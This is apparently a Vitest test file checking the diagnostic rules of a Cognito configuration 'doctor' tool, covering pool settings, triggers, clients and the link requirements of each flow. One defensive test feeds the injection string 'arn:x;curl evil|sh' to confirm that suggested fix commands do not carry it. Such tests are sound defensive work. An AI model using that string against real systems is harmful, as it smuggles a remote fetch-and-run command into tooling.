import { readdirSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { defineConfig } from "cognito-links";
import { toConfigJson } from "cognito-links/synth";
import { describe, expect, it } from "vitest";
import type { PoolFacts } from "../../src/doctor/rule.ts";
import { rules } from "../../src/doctor/rules.ts";
import cdkUserPool from "./cdk-user-pool.json" with { type: "json" };

const facts: PoolFacts = {
  pool: {},
  clients: [],
  hasEveryClient: true,
  trigger: undefined,
  expectedTrigger: undefined,
  invokePermission: undefined,
  isFunctionGone: false,
  functionConfiguration: undefined,
  reservedConcurrency: undefined,
  hostedDomain: false,
  place: { ours: "", aws: "" },
  ses: undefined,
  dmarc: undefined,
};
const configured = (links: object): Partial<PoolFacts> => ({
  functionConfiguration: { Environment: { Variables: { COGNITO_LINKS: JSON.stringify(links) } } },
});
const find = (name: string, some: Partial<PoolFacts>) =>
  rules.find((rule) => rule.name === name)?.check({ ...facts, ...some });

describe("the doctor's rules", () => {
  it("have a file each, named as they are", () => {
    const files = readdirSync(new URL("../../src/doctor/rules", import.meta.url));
    expect(rules.map(({ name }) => `${name}.ts`).sort()).toEqual(files.sort());
  });

  it("stand in the guide, in the same order", () => {
    const guide = readFileSync(new URL("../../../../docs/doctor.md", import.meta.url), "utf8");
    const rows = [
      ...guide.matchAll(/^\| `([\w-]+)` \| (?:problem|warning|note)(?: or (?:warning|note))? \|/gm),
    ];
    const named = new Set(rows.map(([, name]) => name));
    expect([...named]).toEqual([...rules.map(({ name }) => name), "cannot-read"]);
    expect(guide).toContain(`among ${rules.length} checks`);
  });

  it("name the regions where function and pool are apart, attached or only named", () => {
    const pool = { Arn: "arn:aws:cognito-idp:us-east-1:123456789012:userpool/us-east-1_AbC123xyz" };
    const there = "arn:aws:lambda:eu-west-1:123456789012:function:mail";
    const found = [
      expect.objectContaining({
        severity: "problem",
        what: expect.stringContaining("is in eu-west-1, the pool in us-east-1"),
      }),
    ];
    expect(find("another-region", { pool, trigger: there })).toEqual(found);
    expect(find("another-region", { pool, expectedTrigger: there })).toEqual(found);
    const here = there.replace("eu-west-1", "us-east-1");
    expect(find("another-region", { pool, trigger: here, expectedTrigger: there })).toEqual([]);
    expect(find("another-region", { pool })).toEqual([]);
  });

  it("say where the trigger of a stack's pool belongs", () => {
    const pool = { UserPoolTags: { "aws:cloudformation:stack-name": "team-stack" } };
    expect(find("cloudformation-owned", { pool })).toEqual([
      {
        severity: "note",
        what: expect.stringContaining("CloudFormation stack team-stack"),
        fix: expect.stringContaining("where the pool is described"),
      },
    ]);
    expect(find("cloudformation-owned", { pool: { UserPoolTags: { team: "a" } } })).toEqual([]);
  });

  it("say what writing a pool with a custom sender's key needs", () => {
    const pool = { LambdaConfig: { KMSKeyID: "arn:aws:kms:eu-west-1:123456789012:key/1" } };
    expect(find("custom-sender", { pool })).toEqual([
      expect.objectContaining({
        severity: "note",
        what: expect.stringContaining("arn:aws:kms:eu-west-1:123456789012:key/1"),
        fix: expect.stringContaining("`kms:CreateGrant`"),
      }),
    ]);
  });

  it("say of a custom sender what it does to a mail trigger, and what it needs", () => {
    const pool = { LambdaConfig: { CustomEmailSender: {}, KMSKeyID: "key" } };
    const severities = (name: string, some: Partial<PoolFacts>) =>
      find(name, some)?.map(({ severity }) => severity);
    expect(severities("custom-sender", { pool, trigger: "mails" })).toEqual(["problem", "note"]);
    expect(severities("custom-sender", { pool })).toEqual(["warning", "note"]);
    for (const quiet of ["no-trigger", "default-sender"]) expect(find(quiet, { pool })).toEqual([]);
    for (const sender of ["CustomEmailSender", "CustomSMSSender"])
      expect(find("custom-sender", { pool: { LambdaConfig: { [sender]: {} } } })).toContainEqual(
        expect.objectContaining({ severity: "problem", fix: expect.stringContaining("KMSKeyID") }),
      );
  });

  it("say that the template serves no client with a secret", () => {
    const clients = [{ ClientId: "server", ClientSecret: "notReallySecret" }];
    expect(find("client-secret", { clients })).toEqual([
      expect.objectContaining({
        fix: expect.stringContaining("template serves only clients without a secret"),
      }),
    ]);
  });

  it.each([
    "The verification code to your new account is {####}",
    "Your verification code is {####}",
    "Your confirmation code is {####}",
  ])("let pass a text that nobody chose: %s", (EmailMessage) => {
    const usual = { EmailMessage, EmailSubject: "Verify your new account" };
    const pool = { VerificationMessageTemplate: usual, EmailVerificationMessage: EmailMessage };
    expect(find("message-template", { pool })).toEqual([]);
    const own = { ...usual, EmailSubject: "Welcome" };
    expect(find("message-template", { pool: { VerificationMessageTemplate: own } })).toHaveLength(
      1,
    );
  });

  it("let pass the texts that the CDK writes into every pool", () => {
    expect(cdkUserPool.EmailVerificationMessage).toContain("{####}");
    expect(find("message-template", { pool: cdkUserPool })).toEqual([]);
    // The texts in the file are those of the library that is installed.
    const library = createRequire(import.meta.url).resolve("aws-cdk-lib/package.json");
    const source = readFileSync(join(library, "../aws-cognito/lib/user-pool.js"), "utf8");
    const { EmailMessage, EmailSubject } = cdkUserPool.VerificationMessageTemplate;
    for (const text of [EmailMessage.split("{")[0], EmailSubject]) expect(source).toContain(text);
  });

  it("name settings that this version does not know", () => {
    expect(find("unknown-setting", { pool: { Policies: { Passkeys: {} } } })).toEqual([
      expect.objectContaining({
        severity: "note",
        what: expect.stringContaining("Policies.Passkeys"),
      }),
    ]);
    expect(find("unknown-setting", { pool: { Policies: {} } })).toEqual([]);
  });

  it("put no text that is no function's ARN into a command", () => {
    const pool = { Id: "eu-west-1_AbC123xyz" };
    const trigger = "arn:x;curl evil|sh";
    expect(find("invoke-permission", { pool, trigger, invokePermission: "no" })).toEqual([
      expect.objectContaining({ fix: expect.stringMatching(/ --function-arn ARN$/) }),
    ]);
  });

  it("take a custom domain for a domain", () => {
    const pool = { CustomDomain: "auth.example.com" };
    expect(find("no-domain", { pool, hostedDomain: true })).toEqual([]);
  });

  it("name a function that is configured for another pool, and not one that serves whoever calls", () => {
    const pool = { Id: "eu-west-1_AbC123xyz" };
    expect(
      find("another-pool", { pool, ...configured({ userPoolId: "eu-west-1_Other" }) }),
    ).toEqual([
      expect.objectContaining({
        severity: "problem",
        what: expect.stringContaining("configured for the pool eu-west-1_Other"),
      }),
    ]);
    for (const userPoolId of [pool.Id, null])
      expect(find("another-pool", { pool, ...configured({ userPoolId }) })).toEqual([]);
    for (const COGNITO_LINKS of [undefined, "", "{", "[]", '"x"', 7]) {
      const functionConfiguration = { Environment: { Variables: { COGNITO_LINKS } } };
      expect(find("another-pool", { pool, functionConfiguration })).toEqual([]);
    }
    expect(find("another-pool", { pool })).toEqual([]);
  });

  it("name the clients that the function does not list", () => {
    const clients = [{ ClientId: "web" }, { ClientId: "app" }];
    const listed = configured({ clients: [{ clientId: "web" }] });
    expect(find("unlisted-client", { clients, ...listed })).toEqual([
      expect.objectContaining({ what: expect.stringContaining("the client app") }),
    ]);
    expect(find("unlisted-client", { clients, ...configured({ clients: null }) })).toEqual([]);
  });

  it("note a client's secret in the environment, and do not repeat it", () => {
    const secret = "notReallySecret";
    const found = find(
      "secret-in-environment",
      configured({ clients: [{ clientSecret: secret }] }),
    );
    expect(found).toEqual([expect.objectContaining({ severity: "note" })]);
    expect(JSON.stringify(found)).not.toContain(secret);
    expect(find("secret-in-environment", configured({ clients: [{ clientId: "web" }] }))).toEqual(
      [],
    );
  });

  it.each([
    ["function-state", "problem", { functionConfiguration: { State: "Failed" } }],
    ["function-state", "warning", { functionConfiguration: { LastUpdateStatus: "Failed" } }],
    ["function-timeout", "warning", { functionConfiguration: { Timeout: 2 } }],
    ["no-concurrency", "problem", { reservedConcurrency: 0 }],
    ["email-failure", "problem", { pool: { EmailConfigurationFailure: "InvalidIdentity" } }],
    ["sms-failure", "note", { pool: { SmsConfigurationFailure: "SNSSandbox" } }],
    [
      "sms-failure",
      "warning",
      { pool: { SmsConfigurationFailure: "SNSSandbox", AutoVerifiedAttributes: ["phone_number"] } },
    ],
  ])("find %s as a %s for %j", (name, severity, some) => {
    expect(find(name, some)).toEqual([expect.objectContaining({ severity })]);
  });

  it.each([
    ["function-state", { functionConfiguration: { State: "Active" } }],
    ["function-timeout", { functionConfiguration: { Timeout: 3 } }],
    ["no-concurrency", { reservedConcurrency: 1 }],
    ["email-failure", { pool: { EmailConfigurationFailure: "" } }],
  ])("find no %s for %j", (name, some) => {
    expect(find(name, some)).toEqual([]);
  });

  it("say of a pool without a trigger that its own stack may have dropped it", () => {
    expect(find("no-trigger", { pool: { Id: "eu-west-1_AbC123xyz" } })).toEqual([
      expect.objectContaining({
        what: expect.stringContaining("later deployment of the pool's own stack"),
        fix: expect.stringContaining("where the pool is described"),
      }),
    ]);
  });
});

/** The flows of a function of ours, as the construct and the template write them. */
const linked = (flows: object): Partial<PoolFacts> => configured({ flows });
const signIn = linked({ "sign-in": { page: "https://app.example/in", lifetime: 15 * 60 } });
const byCode = { Policies: { SignInPolicy: { AllowedFirstAuthFactors: ["EMAIL_OTP"] } } };
const chooser = { ClientId: "web", ExplicitAuthFlows: ["ALLOW_USER_AUTH"] };
const invitation = linked({ invitation: { clientId: "web", lifetime: 2 * 24 * 3600 } });
const clicking = configured({ signIn: "same-browser" });
const inviting = { ClientId: "web", ExplicitAuthFlows: ["ALLOW_USER_PASSWORD_AUTH"] };
const twoDays = { Policies: { PasswordPolicy: { TemporaryPasswordValidityDays: 2 } } };
const recovery = (...names: string[]): Partial<PoolFacts> => ({
  pool: { AccountRecoverySetting: { RecoveryMechanisms: names.map((Name) => ({ Name })) } },
});
const changing = linked({ "verify-attribute": { page: "https://app.example/verify" } });
const told = linked({
  "reset-password": { passwordPolicy: { minLength: 8, requireDigits: true } },
});
const policy = (PasswordPolicy: object): Partial<PoolFacts> => ({
  pool: { Policies: { PasswordPolicy } },
});

describe("what a flow's link needs", () => {
  it.each<[string, string, string | RegExp, Partial<PoolFacts>]>([
    ["email-sign-in", "problem", /tier, LITE/, { ...signIn, pool: { UserPoolTier: "LITE" } }],
    ["email-sign-in", "problem", /lets nobody sign in/, { ...signIn, clients: [chooser] }],
    [
      "email-sign-in",
      "problem",
      /no client lets/,
      { ...signIn, pool: byCode, clients: [inviting] },
    ],
    [
      "sign-in-minutes",
      "warning",
      /works for 15 minutes, .* client web ends after 3\./,
      { ...signIn, clients: [chooser] },
    ],
    [
      "sign-in-minutes",
      "note",
      /ends after 3 minutes, and a mail/,
      { ...linked({ "sign-in": {} }), clients: [{ ...chooser, AuthSessionValidity: 3 }] },
    ],
    [
      "signed-in",
      "warning",
      /LITE/,
      { ...clicking, pool: { UserPoolTier: "LITE" }, clients: [chooser] },
    ],
    [
      "signed-in",
      "warning",
      /sign nobody in: no client/,
      { ...clicking, clients: [inviting, { ...chooser, ClientSecret: "s" }] },
    ],
    ["signed-in-minutes", "warning", /web .* for 3 minutes/, { ...clicking, clients: [chooser] }],
    ["invitation-client", "problem", /does not have/, { ...invitation, clients: [] }],
    ["invitation-client", "problem", /refuses them all/, { ...invitation, clients: [chooser] }],
    ["invitation-client", "problem", /refuses/, { ...invitation, clients: [{ ClientId: "web" }] }],
    ["invitation-days", "warning", /for 2 days, and in this pool it works for 7/, invitation],
    ["invitation-days", "warning", /for 7 days, .* for 2/, { ...linked({}), pool: twoDays }],
    ["temporary-password", "warning", /no temporary password/, { ...invitation, pool: byCode }],
    ["temporary-password", "note", /may hold </, invitation],
    ["account-recovery", "warning", /administrators/, recovery("admin_only")],
    ["account-recovery", "warning", /text message alone/, recovery("verified_phone_number")],
    [
      "email-not-writable",
      "warning",
      /client web may not/,
      { ...changing, clients: [{ ClientId: "web", WriteAttributes: ["name"] }] },
    ],
    ["email-change", "warning", /at once/, changing],
    [
      "email-change",
      "note",
      /until then people sign in with the old one/,
      {
        ...changing,
        pool: {
          UserAttributeUpdateSettings: { AttributesRequireVerificationBeforeUpdate: ["email"] },
        },
      },
    ],
    [
      "password-policy",
      "warning",
      /minLength is 8, MinimumLength 10, requireSymbols is not given, RequireSymbols true/,
      {
        ...told,
        ...policy({ MinimumLength: 10, RequireNumbers: true, RequireSymbols: true }),
      },
    ],
    [
      "invitation-only",
      "note",
      /by invitation, which has a link/,
      { ...invitation, pool: { AdminCreateUserConfig: { AllowAdminCreateUserOnly: true } } },
    ],
  ])("is missing: %s, a %s that says %s", (name, severity, says, some) => {
    expect(find(name, some)).toEqual([
      expect.objectContaining({ severity, what: expect.stringMatching(says) }),
    ]);
  });

  it.each<[string, Partial<PoolFacts>]>([
    ["email-sign-in", { ...signIn, pool: { UserPoolTier: "PLUS", ...byCode }, clients: [chooser] }],
    // The code of a second factor is the same mail.
    ["email-sign-in", { ...signIn, pool: { MfaConfiguration: "OPTIONAL" }, clients: [inviting] }],
    ["email-sign-in", { pool: { UserPoolTier: "LITE" } }],
    ["sign-in-minutes", { ...signIn, clients: [{ ...chooser, AuthSessionValidity: 15 }] }],
    ["sign-in-minutes", { ...signIn, clients: [inviting] }],
    ["signed-in", { ...clicking, clients: [inviting, chooser] }],
    ["signed-in", { ...clicking, clients: [], hasEveryClient: false }],
    ["signed-in", { pool: { UserPoolTier: "LITE" }, clients: [inviting] }],
    ["signed-in-minutes", { ...clicking, clients: [{ ...chooser, AuthSessionValidity: 15 }] }],
    ["signed-in-minutes", { ...clicking, pool: byCode, clients: [chooser] }],
    ["signed-in-minutes", { ...clicking, clients: [inviting, { ...chooser, ClientSecret: "s" }] }],
    ["signed-in-minutes", { clients: [chooser] }],
    ["invitation-client", { ...invitation, clients: [inviting] }],
    // Who looks at some clients alone cannot tell.
    ["invitation-client", { ...invitation, clients: [], hasEveryClient: false }],
    ["invitation-client", linked({ invitation: { page: "https://app.example/invited" } })],
    ["invitation-days", { ...invitation, pool: twoDays }],
    ["invitation-days", { pool: twoDays }],
    ["temporary-password", { pool: byCode }],
    ["account-recovery", recovery("verified_phone_number", "verified_email")],
    ["account-recovery", { pool: {} }],
    ["account-recovery", { pool: cdkUserPool }],
    ["email-not-writable", { ...changing, clients: [{ ClientId: "web" }] }],
    ["email-not-writable", { clients: [{ ClientId: "web", WriteAttributes: [] }] }],
    ["email-change", {}],
    ["password-policy", { ...told, ...policy({ MinimumLength: 8, RequireNumbers: true }) }],
    ["password-policy", { ...invitation, ...policy({ RequireSymbols: true }) }],
  ])("is there, or not asked for: no %s for %j", (name, some) => {
    expect(find(name, some)).toEqual([]);
  });

  it("is found in a configuration as it is deployed", () => {
    const config = defineConfig({
      userPoolId: "eu-west-1_AbC123xyz",
      clients: [{ clientId: "web" }],
      keys: null,
      linkUrl: "https://links.example.com/confirm",
      redirectTo: "https://app.example.com/welcome",
      flows: {
        "reset-password": { passwordPolicy: { minLength: 8 } },
        invitation: { days: 2 },
        "verify-attribute": { page: "https://app.example.com/verify" },
        "sign-in": { page: "https://app.example.com/in", minutes: 10 },
      },
    });
    const deployed = configured(toConfigJson(config));
    const clients = [{ ...chooser, WriteAttributes: ["name"] }];
    const found = rules.flatMap(({ name, check }) =>
      check({ ...facts, ...deployed, clients }).map(({ what }) => `${name}: ${what}`),
    );
    expect(found).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^password-policy: The page of reset-password .* minLength is 8/),
        expect.stringMatching(/^invitation-client: .* the client web, which takes no passwords/),
        expect.stringMatching(/^invitation-days: .* for 2 days, .* for 7/),
        expect.stringMatching(/^email-not-writable: The client web /),
        expect.stringMatching(/^email-change: .* at once/),
        expect.stringMatching(/^email-sign-in: .* lets nobody sign in/),
        expect.stringMatching(/^sign-in-minutes: .* for 10 minutes, .* after 3/),
      ]),
    );
  });
});
